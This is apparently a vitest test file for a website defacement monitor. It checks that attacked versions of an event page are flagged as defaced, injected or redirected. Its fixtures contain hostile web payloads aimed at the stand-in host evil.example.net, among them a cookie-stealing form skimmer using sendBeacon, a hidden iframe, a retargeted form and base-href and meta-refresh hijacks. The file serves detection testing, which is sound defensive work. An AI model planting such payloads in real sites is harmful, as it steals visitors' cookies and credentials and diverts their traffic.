import { describe, expect, it } from 'vitest';
import type { Diagnosis } from '../../../src/core/model.js';
import { findingsOf, GENUINE, lookAt, paintedPng, reading, type Seen, settingsFor, worstOf } from './looks.js';

const HACKED = `<html><head><title>Hacked by NoName Crew</title></head><body bgcolor=black><center><h1>HACKED BY NONAME CREW</h1>
<p>Your security is zero. We are watching you. Greetz to all friends.</p></center></body></html>`;

const inject = (html: string): string => GENUINE.replace('</body>', `${html}</body>`);

interface Attack {
  readonly name: string;
  readonly seen: Seen;
  readonly diagnosis: Diagnosis;
  readonly code: string;
}

const CRITICAL: readonly Attack[] = [
  { name: 'a full replacement', seen: { html: HACKED }, diagnosis: 'defaced', code: 'page/replaced' },
  {
    name: 'a full replacement in Persian',
    seen: {
      html: '<html><head><title>این سایت هک شد</title></head><body><h1>این وب‌سایت توسط گروه ما هک شد</h1></body></html>',
    },
    diagnosis: 'defaced',
    code: 'page/replaced',
  },
  {
    name: 'a full replacement in Arabic',
    seen: {
      html: '<html><head><title>تم اختراق الموقع</title></head><body><h1>تم اختراق هذا الموقع من قبل فريقنا</h1></body></html>',
    },
    diagnosis: 'defaced',
    code: 'page/replaced',
  },
  {
    name: 'a full replacement in Chinese without any known phrase',
    seen: {
      html: '<html><head><title>自由之声</title></head><body><h1>今天我们在这里发布重要声明</h1><p>请大家继续关注我们的消息</p></body></html>',
    },
    diagnosis: 'defaced',
    code: 'page/replaced',
  },
  {
    name: 'one line of a defacer at the foot of the page',
    seen: { html: inject('<p>H4cked by n0name</p>') },
    diagnosis: 'defaced',
    code: 'page/defacement-phrase',
  },
  {
    name: 'a replacement made by a script, the markup served being as ever but for it',
    seen: { rendered: HACKED },
    diagnosis: 'defaced',
    code: 'page/replaced',
  },
  {
    name: 'a script from another site',
    seen: { html: inject('<script src="https://evil.example.net/x.js"></script>') },
    diagnosis: 'injected',
    code: 'page/script-injected',
  },
  {
    name: 'a script within the page that sends visitors away',
    seen: { html: inject('<script>setTimeout(function(){location.href="https://evil.example.net/"},5000)</script>') },
    diagnosis: 'injected',
    code: 'page/inline-script-injected',
  },
  {
    name: 'a skimmer appended to the page’s own code',
    seen: {
      html: GENUINE.replace(
        '1752765000};',
        '1752765000};document.onsubmit=()=>navigator.sendBeacon("//evil.example.net/c",document.cookie)',
      ),
    },
    diagnosis: 'injected',
    code: 'page/inline-script-injected',
  },
  {
    name: 'an invisible frame',
    seen: { html: inject('<iframe src="https://evil.example.net/" width="1" height="1"></iframe>') },
    diagnosis: 'injected',
    code: 'page/frame-injected',
  },
  {
    name: 'a form that sends elsewhere',
    seen: { html: GENUINE.replace('action="/newsletter"', 'action="https://evil.example.net/collect"') },
    diagnosis: 'injected',
    code: 'page/form-retargeted',
  },
  {
    name: 'another stream source',
    seen: { html: GENUINE.replace('https://stream.summit.example/live', 'https://evil.example.net/live') },
    diagnosis: 'injected',
    code: 'page/media-replaced',
  },
  {
    name: 'hidden links for search engines',
    seen: {
      html: inject(
        '<div style="position:absolute;left:-9999px"><a href="https://casino.example.net/">casino</a></div>',
      ),
    },
    diagnosis: 'injected',
    code: 'page/links-injected',
  },
  {
    name: 'a meta refresh to another site',
    seen: {
      html: GENUINE.replace(
        '<title>',
        '<meta http-equiv="refresh" content="60; url=https://evil.example.net/"><title>',
      ),
    },
    diagnosis: 'redirected',
    code: 'page/refresh-added',
  },
  {
    name: 'a base that moves every reference',
    seen: { html: GENUINE.replace('<title>', '<base href="https://evil.example.net/"><title>') },
    diagnosis: 'injected',
    code: 'page/base-changed',
  },
  {
    name: 'another title and nothing else',
    seen: { html: GENUINE.replace('Global Summit 2026 – Live', 'Owned! Viva la resistance') },
    diagnosis: 'defaced',
    code: 'page/title-replaced',
  },
  {
    name: 'a blank page',
    seen: { html: '<html><head><title></title></head><body></body></html>' },
    diagnosis: 'defaced',
    code: 'page/emptied',
  },
  {
    name: 'a page that is one picture',
    seen: {
      html: '<html><body style="margin:0"><img src="/uploads/x.jpg" width="100%"></body></html>',
      screenshot: paintedPng(1280, 800, [{ x: 0, y: 0, width: 1280, height: 800, colour: [0, 0, 0] }]),
    },
    diagnosis: 'defaced',
    code: 'page/emptied',
  },
  {
    name: 'an overlay that leaves the page beneath as it was',
    seen: { html: inject('<div class="o"><b>Glory</b></div>'), view: { overlays: ['body > div.o'] } },
    diagnosis: 'defaced',
    code: 'page/overlay-added',
  },
  {
    name: 'a picture painted over everything while the markup explains nothing',
    seen: { screenshot: paintedPng(1280, 800, [{ x: 0, y: 0, width: 1280, height: 700, colour: [9, 9, 9] }]) },
    diagnosis: 'defaced',
    code: 'page/picture-replaced',
  },
  {
    name: 'a message box',
    seen: { view: { dialogs: ['you have been visited'] } },
    diagnosis: 'defaced',
    code: 'page/dialog-shown',
  },
  {
    name: 'a page that moves its visitors to another site by script',
    seen: { finalUrl: 'https://evil.example.net/', rendered: HACKED },
    diagnosis: 'redirected',
    code: 'page/redirected',
  },
  {
    name: 'a block notice',
    seen: {
      html: '<html><head><title>Notice</title></head><body><p>This website has been blocked by order of the ministry.</p></body></html>',
    },
    diagnosis: 'blocked',
    code: 'page/blocked',
  },
  {
    name: 'a parking page',
    seen: {
      html: '<html><head><title>summit.example</title></head><body><p>This domain is for sale. Buy this domain now.</p></body></html>',
    },
    diagnosis: 'defaced',
    code: 'page/parked',
  },
  { name: 'a refusal', seen: { html: '<h1>Forbidden</h1>', status: 403 }, diagnosis: 'denied', code: 'page/denied' },
  {
    name: 'a page that is gone',
    seen: { html: '<h1>Not Found</h1>', status: 404 },
    diagnosis: 'down',
    code: 'page/status-changed',
  },
];

describe('an attacked living page', () => {
  it.each(CRITICAL)('is critical: $name', ({ seen, diagnosis, code }) => {
    const findings = findingsOf(seen);
    expect(findings.map((finding) => finding.code)).toContain(code);
    expect(findings[0]).toMatchObject({ severity: 'critical', diagnosis });
    expect(findings.length).toBeLessThanOrEqual(7);
  });

  it('is told in one sentence with the new words', () => {
    expect(findingsOf({ html: HACKED })[0]?.summary).toBe(
      'The title and the main text were replaced; the new text says “Hacked by NoName Crew”.',
    );
  });

  it.each([
    [
      'a link that kept its text and leads elsewhere',
      GENUINE.replace('https://partner.example/about', 'https://evil.example.net/'),
    ],
    ['a visible link to a site unknown so far', inject('<p><a href="https://evil.example.net/">cheap pills</a></p>')],
    [
      'new code in the page that looks harmless',
      inject('<script>window.helper = function (a) { return a + 1; };</script>'),
    ],
    ['a picture from another site', GENUINE.replace('/img/logo.svg', 'https://evil.example.net/logo.svg')],
    [
      'most paragraphs rewritten',
      GENUINE.replace(
        /<p>The Global[\s\S]*?<\/section>/,
        '<p>Everything you were told about this gathering is false and the organisers know it very well.</p></section>',
      ).replace(/<li><a href="\/news\/\d">[^<]*/g, '<li><a href="/news/1">Another story about them'),
    ],
  ])('is told: %s', (_name, html) => {
    expect(['warning', 'critical']).toContain(worstOf(findingsOf({ html })));
  });

  it('is not taken for an attack by words alone: a long article may quote a defacer', () => {
    const article = `<p>${'In the third session the panel looked back at the incident of last spring, when a municipal site was hacked by a group of students, and asked what had been learned since. '.repeat(3)}</p>`;
    expect(worstOf(findingsOf({ html: inject(article) }))).not.toBe('critical');
  });
});

describe('a frozen page', () => {
  it.each([
    ['one word', GENUINE.replace('clean water', 'dirty water')],
    ['one digit', GENUINE.replace('12,431', '12,432')],
    ['a title that is edited', GENUINE.replace('– Live', '– Replay')],
    [
      'a new item',
      GENUINE.replace('<li><a href="/news/1">', '<li><a href="/news/9">Lunch is served</a></li><li><a href="/news/1">'),
    ],
    ['a description', GENUINE.replace('closing ceremony', 'closing party')],
    ['a script of the same site', inject('<script src="/assets/new.js"></script>')],
  ])('is critical: %s', (_name, html) => {
    expect(worstOf(findingsOf({ html }, 'frozen'))).toBe('critical');
  });

  it('is critical when only a part of the picture differs', () => {
    const screenshot = paintedPng(1280, 800, [{ x: 200, y: 300, width: 120, height: 40, colour: [200, 0, 0] }]);
    expect(findingsOf({ screenshot }, 'frozen')[0]).toMatchObject({
      severity: 'critical',
      code: 'page/picture-changed',
    });
  });

  it('is intact when only what is ignored differs', () => {
    const options = { ignore: { selectors: ['.viewers'], text: ['workshops closes on \\w+'] } };
    const html = GENUINE.replace('12,431', '9').replace('closes on Friday', 'closes on Monday');
    expect(findingsOf({ html }, 'frozen', options).filter((finding) => finding.severity !== 'notice')).toEqual([]);
  });
});

describe('without the page', () => {
  it('a server error is the target’s failure, not a defacement', () => {
    const { findings, failures } = reading(lookAt({ html: '<h1>Internal Server Error</h1>', status: 500 }));
    expect(findings).toEqual([]);
    expect(failures[0]).toMatchObject({ blame: 'target', code: 'http-500', diagnosis: 'down' });
  });

  it('a signed server error is a defacement all the same', () => {
    expect(worstOf(reading(lookAt({ html: HACKED, status: 500 })).findings)).toBe('critical');
  });

  it('a bot wall leaves the page unverified', () => {
    const { findings, failures } = reading(
      lookAt({ html: '<title>Just a moment...</title>', status: 403, headers: [['cf-mitigated', 'challenge']] }),
    );
    expect(findings).toEqual([]);
    expect(failures[0]).toMatchObject({ blame: 'monitor', diagnosis: 'bot-walled' });
  });

  it('a view that was never approved is told', () => {
    const settings = settingsFor('living');
    const actual = lookAt({ viewports: [{ name: 'mobile', width: 390, height: 844, mobile: true }] });
    expect(reading(actual, lookAt(), settings).findings.map((f) => f.code)).toContain('page/not-in-baseline');
  });
});
